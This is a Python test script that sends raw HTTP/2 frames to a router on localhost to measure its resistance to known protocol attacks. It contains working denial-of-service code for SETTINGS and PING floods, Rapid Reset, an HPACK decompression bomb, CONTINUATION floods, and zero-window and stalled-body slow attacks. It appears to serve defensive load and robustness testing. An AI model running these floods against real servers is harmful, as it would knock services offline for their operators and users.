# HTTP/2 abuse over TLS (127.0.0.1:47102, ALPN h2), raw frames; a victim (curl) is probed from
# 127.0.0.2 while each runs, and the router's RSS/CPU sampled.
#   python3 h2_attacks.py settings_flood read|noread
#   python3 h2_attacks.py ping_flood read|noread
#   python3 h2_attacks.py rapid_reset [CONNS]
#   python3 h2_attacks.py streams
#   python3 h2_attacks.py hpack_bomb
#   python3 h2_attacks.py continuation
#   python3 h2_attacks.py zero_window CONNS SECONDS
#   python3 h2_attacks.py stalled_body SECONDS
import sys
from common import *


def drain(t, collect=None):
    """Non-blocking read of whatever is there; returns False on EOF/reset."""
    t.setblocking(False)
    try:
        while True:
            d = t.recv(65536)
            if not d:
                return False
            if collect is not None:
                collect.append(d)
    except (ssl.SSLWantReadError, BlockingIOError):
        return True
    except OSError:
        return False
    finally:
        t.setblocking(True)


def goaway_in(chunks):
    b = b"".join(chunks)
    i = 0
    while i + 9 <= len(b):
        n = int.from_bytes(b[i:i + 3], "big")
        if b[i + 3] == GOAWAY and i + 9 + 8 <= len(b):
            return int.from_bytes(b[i + 13:i + 17], "big")
        i += 9 + n
    return None


def flood(kind, mode):
    m = Monitor(label=f"{kind}-{mode}"); m.start()
    t = h2conn(timeout=5)
    fr = frame(SETTINGS, 0, 0) if kind == "settings" else frame(PING, 0, 0, b"12345678")
    batch = fr * 1000
    sent, t0, chunks = 0, time.time(), []
    how = "still open after 20 s"
    while time.time() - t0 < 20:
        try:
            t.sendall(batch)
            sent += 1000
        except OSError as e:
            how = f"send failed ({e.__class__.__name__}) after {time.time()-t0:.2f}s"
            break
        if mode == "read" and not drain(t, chunks):
            how = f"closed by router after {time.time()-t0:.2f}s"
            break
    g = goaway_in(chunks[:50]) if chunks else None
    print(f"{kind} flood ({mode}): {sent} frames sent; {how}; GOAWAY code seen: {g}", flush=True)
    m.stop()


def settings_flood():
    flood("settings", sys.argv[2])


def ping_flood():
    flood("ping", sys.argv[2])


def nginx_status():
    out = subprocess.run(["curl", "-s", "http://127.0.0.1:47100/status"], capture_output=True,
                         text=True).stdout.split("\n")
    accepts, handled, reqs = map(int, out[2].split())
    return accepts, reqs


def rapid_reset():
    conns = int(sys.argv[2]) if len(sys.argv) > 2 else 1
    m = Monitor(label="rapid_reset"); m.start()
    a0, r0 = nginx_status()
    total, t0 = 0, time.time()
    for c in range(conns):
        t = h2conn(timeout=5)
        sid, chunks = 1, []
        how = "open after 10 s"
        tc = time.time()
        while time.time() - tc < 10 and sid < 2 ** 31 - 400:
            batch = b""
            for _ in range(100):
                batch += frame(HEADERS, END_HEADERS | END_STREAM, sid, request_block()) + \
                         frame(RST, 0, sid, struct.pack(">I", 8))
                sid += 2
            try:
                t.sendall(batch)
            except OSError as e:
                how = f"send failed ({e.__class__.__name__}) after {time.time()-tc:.2f}s"
                break
            if not drain(t, chunks):
                how = f"closed after {time.time()-tc:.2f}s"
                break
        n = (sid - 1) // 2
        total += n
        print(f"conn {c}: {n} HEADERS+RST_STREAM pairs sent, {how}, GOAWAY={goaway_in(chunks)}",
              flush=True)
        t.close()
    time.sleep(1)
    a1, r1 = nginx_status()
    print(f"rapid reset: {total} streams opened+reset over {conns} connections in "
          f"{time.time()-t0:.1f}s; backend saw {a1-a0} new connections, {r1-r0} requests", flush=True)
    m.stop()


def streams():
    # Open 300 streams at once, as the very first frames (before our SETTINGS are acked) and
    # then again on a second connection after the ACK. Each stream is a POST without END_STREAM
    # so it stays open.
    for when in ("before_ack", "after_ack"):
        t = h2conn(timeout=5)
        r = FrameReader(t)
        if when == "after_ack":
            t.sendall(frame(SETTINGS, ACK, 0))
            while True:
                f = r.next()
                if f[0] == SETTINGS and f[1] & ACK:
                    break
        batch = b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * i, request_block("/post", "POST"))
                         for i in range(300))
        t.sendall(batch)
        t.settimeout(3)
        rst, heads, goaway = {}, 0, None
        try:
            while True:
                f = r.next()
                if f is None:
                    break
                if f[0] == RST:
                    c = int.from_bytes(f[3], "big")
                    rst[c] = rst.get(c, 0) + 1
                elif f[0] == HEADERS:
                    heads += 1
                elif f[0] == GOAWAY:
                    goaway = int.from_bytes(f[3][4:8], "big")
        except (socket.timeout, OSError):
            pass
        print(f"300 streams {when}: RST_STREAM by code {rst} (7=REFUSED), responses {heads}, "
              f"GOAWAY {goaway}", flush=True)
        t.close()


def hpack_bomb():
    m = Monitor(label="hpack_bomb"); m.start()
    # 1) a header list past the advertised 64 KiB, literal: what does the stream get?
    t = h2conn(timeout=5)
    r = FrameReader(t)
    blk = request_block(extra=[("x-big%d" % i, "a" * 8000) for i in range(10)])
    frames = b""
    first = True
    while blk:
        piece, blk = blk[:16384], blk[16384:]
        typ = HEADERS if first else CONT
        fl = (END_STREAM if first else 0) | (END_HEADERS if not blk else 0)
        frames += frame(typ, fl, 1, piece)
        first = False
    t.sendall(frames)
    t.settimeout(3)
    res = []
    try:
        while True:
            f = r.next()
            if f is None:
                break
            if f[0] in (RST, HEADERS, GOAWAY):
                res.append((f[0], f[3][:8].hex()))
            if f[0] == GOAWAY or f[0] == RST or (f[0] == HEADERS):
                break
    except (socket.timeout, OSError):
        pass
    print("80 KB literal header list on one stream ->", res, "(3=RST, 1=HEADERS, 7=GOAWAY)", flush=True)
    t.close()
    # 2) the bomb: one 4 KB entry in the dynamic table, then blocks of 16000 one-byte references
    #    to it (64 MB decoded per 16 KB frame), on many streams, for 15 s.
    t = h2conn(timeout=5)
    seed = frame(HEADERS, END_HEADERS | END_STREAM, 1,
                 request_block() + hpack_lit("x-bomb", "b" * 4000, index=True))
    t.sendall(seed)
    sid, t0, chunks, how = 3, time.time(), [], "open after 15 s"
    while time.time() - t0 < 15:
        blk = request_block() + b"\xbe" * 16000
        try:
            t.sendall(frame(HEADERS, END_HEADERS | END_STREAM, sid, blk))
        except OSError as e:
            how = f"send failed ({e.__class__.__name__}) after {time.time()-t0:.2f}s"
            break
        sid += 2
        if not drain(t, chunks):
            how = f"closed after {time.time()-t0:.2f}s"
            break
    print(f"hpack bomb: {(sid-3)//2} blocks of 64 MB decoded size sent; {how}; GOAWAY={goaway_in(chunks)}",
          flush=True)
    m.stop()


def continuation():
    m = Monitor(label="continuation"); m.start()
    for variant in ("empty", "headers"):
        t = h2conn(timeout=5)
        t.sendall(frame(HEADERS, 0, 1, request_block()))
        n, t0, chunks, how = 0, time.time(), [], "open after 15 s"
        while time.time() - t0 < 15:
            if variant == "empty":
                batch = frame(CONT, 0, 1, b"") * 1000
            else:
                batch = b"".join(frame(CONT, 0, 1, hpack_lit("x-c%d" % (n + i), "v" * 100))
                                 for i in range(1000))
            try:
                t.sendall(batch)
            except OSError as e:
                how = f"send failed ({e.__class__.__name__}) after {time.time()-t0:.2f}s"
                break
            n += 1000
            if not drain(t, chunks):
                how = f"closed after {time.time()-t0:.2f}s"
                break
        print(f"CONTINUATION flood ({variant}): {n} frames sent; {how}; GOAWAY={goaway_in(chunks)}",
              flush=True)
        t.close()
    m.stop()


def zero_window():
    conns, secs = int(sys.argv[2]), int(sys.argv[3])
    m = Monitor(interval=5, label="zero_window"); m.start()
    socks = []
    for c in range(conns):
        t = h2conn(init_settings=settings(INITIAL_WINDOW_SIZE=0), timeout=5)
        t.sendall(frame(SETTINGS, ACK, 0))
        t.sendall(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i,
                                 request_block("/100m.bin")) for i in range(128)))
        socks.append(t)
    print(f"{conns} connections x 128 streams of /100m.bin with a zero window", flush=True)
    t0 = time.time()
    while time.time() - t0 < secs:
        time.sleep(10)
        alive = 0
        for t in socks:
            try:
                t.sendall(frame(PING, 0, 0, b"keepaliv"))  # keeps the connection "busy"
                if drain(t):
                    alive += 1
            except OSError:
                pass
        print(f"t={time.time()-t0:.0f}s {alive}/{conns} connections alive", flush=True)
    for t in socks:
        t.close()
    time.sleep(3)
    m.stop()


def stalled_body():
    secs = int(sys.argv[2])
    a0, r0 = nginx_status()
    t = h2conn(timeout=5)
    t.sendall(frame(SETTINGS, ACK, 0))
    # POST with a Content-Length and no body at all: the stream waits for DATA forever
    t.sendall(frame(HEADERS, END_HEADERS, 1, request_block("/post", "POST", extra=[("content-length", "1000")])))
    t0 = time.time()
    while time.time() - t0 < secs:
        time.sleep(15)
        t.sendall(frame(PING, 0, 0, b"keepaliv"))
        ok = drain(t)
        up = int(subprocess.run("ss -Htn state established '( dport = :47100 )' | wc -l", shell=True,
                                capture_output=True, text=True).stdout)
        print(f"t={time.time()-t0:.0f}s client conn {'open' if ok else 'CLOSED'}; "
              f"router->backend connections established: {up}", flush=True)
        if not ok:
            break
    t.close()


if __name__ == "__main__":
    globals()[sys.argv[1]]()
